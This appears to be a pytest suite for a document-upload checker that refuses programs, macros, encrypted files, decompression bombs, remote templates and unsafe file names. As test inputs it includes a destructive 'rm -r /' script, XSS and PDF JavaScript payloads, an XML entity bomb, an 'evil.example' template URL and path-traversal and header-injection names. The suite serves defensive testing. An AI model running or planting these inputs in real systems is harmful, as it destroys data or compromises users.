"""What is taken, what is refused, and what a refusal says."""

import struct
import zipfile
import zlib
from collections.abc import Iterator
from contextlib import suppress
from hashlib import sha256
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.alliance.files.samples import docx, jpeg, office, pdf, png

from anso.alliance.files import DOCX, KINDS, PDF, TEXT, Checked, check_file, clean_name
from anso.config import config
from anso.errors import InvalidInputError

LARGEST = 5_000_000
SOUND = {
    "a.pdf": (pdf(), "pdf", "application/pdf"),
    "a.docx": (office("docx"), "docx", f"{DOCX.media_type}"),
    "a.xlsx": (
        office("xlsx"),
        "xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "a.pptx": (
        office("pptx"),
        "pptx",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    "a.png": (png(), "png", "image/png"),
    "a.JPG": (jpeg(), "jpeg", "image/jpeg"),
    "a.txt": ("Порядок дня\n议程\n".encode(), "text", "text/plain; charset=utf-8"),
    "b.md": ("\ufeff# Ordre".encode("utf-16-le"), "text", "text/plain; charset=utf-8"),
}


def refusal(name: str, content: bytes, largest: int = LARGEST) -> str:
    with pytest.raises(InvalidInputError) as caught:
        check_file(name, content, kinds=KINDS, largest=largest)
    (problem,) = caught.value.problems
    assert problem.where == clean_name(name)
    return problem.message


@pytest.mark.parametrize("name", SOUND)
def test_sound_document_is_known_by_its_content(name: str, tmp_path: Path) -> None:
    content, kind, media_type = SOUND[name]
    (tmp_path / "upload").write_bytes(content)
    expected = Checked(name, kind, media_type, len(content), sha256(content).hexdigest())
    assert check_file(name, content, kinds=KINDS, largest=LARGEST) == expected
    assert check_file(name, tmp_path / "upload", kinds=KINDS, largest=LARGEST) == expected


@pytest.mark.parametrize(
    ("name", "content", "told"),
    [
        ("a.pdf", b"", "the file is empty"),
        ("a.pdf", png(), "by its content this is a PNG picture; give it a name that ends in .png"),
        ("a", pdf(), "by its content this is a PDF document; give it a name that ends in .pdf"),
        ("a.png", png()[:-20], "the file is damaged or cut off; save it anew and send it again"),
        ("a.pdf", pdf()[:-12], "the file is damaged or cut off; save it anew and send it again"),
        ("a.jpg", jpeg()[:-2], "the file is damaged or cut off; save it anew and send it again"),
        ("a.docx", docx()[:-30], "the file is damaged or cut off; save it anew and send it again"),
        ("a.txt", b"MZ\x90\x00\x03\x00", "this is a program; programs are not taken"),
        ("a.pdf", b"\x7fELF\x02\x01\x01\x00", "this is a program; programs are not taken"),
        ("a.txt", b"#!/bin/sh\nrm -r /\n", "this is a program; programs are not taken"),
        ("a.txt", b"{\\rtf1 Hello}", "this is rich text (RTF); save it as .docx or PDF"),
    ],
)
def test_unsound_document_is_refused_with_the_mend(name: str, content: bytes, told: str) -> None:
    assert refusal(name, content) == told


@pytest.mark.parametrize(
    "content",
    [
        b"<!DOCTYPE html><script>alert(1)</script>",
        b"\n  <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<?xml version='1.0'?><svg/>",
        "\ufeff<html>".encode(),
        "\ufeff<html>".encode("utf-16-be"),
        b"<!-- --><a href='x'>",
    ],
)
def test_markup_is_not_taken_for_text(content: bytes) -> None:
    told = "this is a web page, a drawing (SVG) or other markup; send it as PDF or as plain text"
    assert refusal("a.txt", content) == told


def test_kind_that_is_not_asked_for_is_refused() -> None:
    with pytest.raises(InvalidInputError) as caught:
        check_file("a.pdf", pdf(), kinds=(TEXT, DOCX), largest=LARGEST)
    assert (
        str(caught.value)
        == "a.pdf: this is a PDF document, which is not taken here; send a file that ends in .txt, .md, .docx"
    )


def test_size_is_counted_to_the_byte() -> None:
    content = b"a" * 1_500_001
    assert check_file("a.txt", content, kinds=[TEXT], largest=1_500_001).size == 1_500_001
    told = "the file has 1.5 MB; at most 1.5 MB are taken. Compress it or give it in parts"
    assert refusal("a.txt", content, largest=1_500_000) == told


MACROS = "this document holds macros; save it without them, as .docx, .xlsx or .pptx"


@pytest.mark.parametrize(
    "content", [office("docm"), office("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})]
)
def test_macros_are_refused_whatever_the_name(content: bytes) -> None:
    assert refusal("a.docx", content) == MACROS
    assert refusal("a.docm", content) == MACROS


def test_protected_documents_are_refused() -> None:
    told = "this document is protected by a password; save it without one"
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000
    assert refusal("a.docx", ole + "EncryptedPackage".encode("utf-16-le")) == told
    assert refusal("a.docx", ole).startswith("this is a file of an old Office")
    locked = bytearray(office("docx"))
    for begins in (b"PK\x03\x04", b"PK\x01\x02"):
        place, flags = -1, 6 if begins == b"PK\x03\x04" else 8
        while (place := locked.find(begins, place + 1)) >= 0:
            if b"x.xml" in locked[place : place + 60]:
                locked[place + flags] |= 1
    assert refusal("a.docx", bytes(locked)) == told
    assert refusal("a.pdf", pdf(trailer=b"<< /Size 1 /Encrypt 5 0 R >>")).startswith("this PDF is protected")


def test_program_in_a_pdf_is_found_also_where_it_is_packed() -> None:
    told = "this PDF holds a program (JavaScript, or a command to start one); print it to a new PDF"
    action = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(b"5 0 " + action)
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    assert refusal("a.pdf", pdf(action)) == told
    assert refusal("a.pdf", pdf(stream % (len(packed), packed))) == told
    harmless = zlib.compress(b"5 0 << /Launcher true >>")
    content = pdf(stream % (len(harmless), harmless))
    assert check_file("a.pdf", content, kinds=[PDF], largest=LARGEST).kind == "pdf"


def test_bombs_are_not_unpacked() -> None:
    told = "the file unpacks to far more than it should; save it anew, without what it does not need"
    packed = zlib.compress(b"0" * 50_000_001)
    stream = b"<< /Type /ObjStm /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed)
    assert refusal("a.pdf", pdf(stream)) == told
    huge = bytearray(docx())
    place = huge.rfind(b"PK\x01\x02")
    huge[place + 24 : place + 28] = struct.pack("<I", 600_000_000)
    assert refusal("a.docx", bytes(huge)) == told
    entities = b"<!DOCTYPE x [<!ENTITY a 'aaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]><x>&b;</x>"
    assert refusal("a.docx", office("docx", {"word/document.xml": entities})) == told


def test_part_that_is_larger_than_it_says_is_refused() -> None:
    content = bytearray(office("docx", {"word/document.xml": b"<x>" + b"0" * 50_000 + b"</x>"}))
    place = content.rfind(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 10)
    assert refusal("a.docx", bytes(content)).startswith("the file is damaged")


def test_programs_and_remote_templates_inside_documents_are_named() -> None:
    assert (
        refusal("a.docx", office("docx", {"word/embeddings/setup.EXE": b"MZ"}))
        == "this document has a program in it (word/embeddings/setup.EXE); take it out and save the document anew"
    )
    fetched = b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
    part = {"word/_rels/settings.xml.rels": fetched}
    assert refusal("a.docx", office("docx", part)).startswith("this document fetches its template")
    own = fetched.replace(b"https://evil.example/a.dotm", b"file:///C:/Users/x/Normal.dotm")
    kept = office("docx", {"word/_rels/settings.xml.rels": own})
    assert check_file("a.docx", kept, kinds=KINDS, largest=LARGEST).kind == "docx"


def test_other_archives_are_refused() -> None:
    held = BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
    assert refusal("a.docx", held.getvalue()).startswith(
        "this is an archive or a document of another program"
    )


@pytest.mark.parametrize(
    ("sides", "shown"), [((30_001, 1), "30001 × 1"), ((10_001, 10_000), "10001 × 10000")]
)
def test_picture_with_too_many_pixels_is_refused(sides: tuple[int, int], shown: str) -> None:
    told = f"the picture has {shown} pixels, more than can be shown; make it smaller"
    assert refusal("a.png", png(*sides)) == told
    assert refusal("a.jpeg", jpeg(*sides)) == told


def test_pictures_check_sum_is_looked_at() -> None:
    altered = png().replace(struct.pack(">II", 4, 3), struct.pack(">II", 3, 4))
    assert refusal("a.png", altered).startswith("the file is damaged")


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\papers\\a.pdf", "a.pdf"),
        ("annex\u202efdp.exe", "annexfdp.exe"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie: x.pdf"),
        ("..", "file"),
        ("й" * 300 + ".docx", "й" * 145 + ".docx"),
    ],
)
def test_name_is_a_name_alone(given_name: str, kept: str) -> None:
    assert clean_name(given_name) == kept


@given(
    st.binary(max_size=300),
    st.sampled_from(["a.pdf", "a.docx", "a.png", "a.jpg", "a.txt"]),
    st.integers(0, 9),
)
def test_any_bytes_get_a_sentence_or_are_taken(noise: bytes, name: str, which: int) -> None:
    """Sound beginnings with any bytes after them: a refusal, never a fault of ours."""
    whole = list(SOUND.values())[which % len(SOUND)][0]
    for content in (noise, whole[: len(noise)] + noise, whole + noise):
        with suppress(InvalidInputError):
            checked = check_file(name, content, kinds=KINDS, largest=LARGEST)
            assert checked.sha256 == sha256(content).hexdigest()


@pytest.fixture
def scanner(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A scanner that finds everything with “virus” in it, and writes down what it was given."""
    script = tmp_path / "scanner"
    script.write_text('#!/bin/sh\necho "$2" >> "$1"\n! grep -q virus "$2"\n')
    script.chmod(0o700)
    monkeypatch.setenv("ANSO_VIRUS_SCAN", f"{script} {tmp_path / 'scanned'}")
    config.cache_clear()
    yield tmp_path / "scanned"
    monkeypatch.undo()
    config.cache_clear()


def test_scanner_looks_at_every_document(scanner: Path, tmp_path: Path) -> None:
    path = tmp_path / "note.txt"
    path.write_text("healthy")
    assert check_file("note.txt", path, kinds=[TEXT], largest=99).size == 7
    assert scanner.read_text() == f"{path}\n"
    told = "the virus scanner of this site did not pass the file; have it looked at before you send it"
    assert refusal("note.txt", b"a virus") == told


def test_document_is_not_taken_where_the_scanner_fails(
    scanner: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ANSO_VIRUS_SCAN", "/nowhere/scanner --quiet")
    config.cache_clear()
    told = "the file could not be scanned for viruses just now, and is not taken unscanned; try again later"
    assert refusal("note.txt", b"healthy") == told
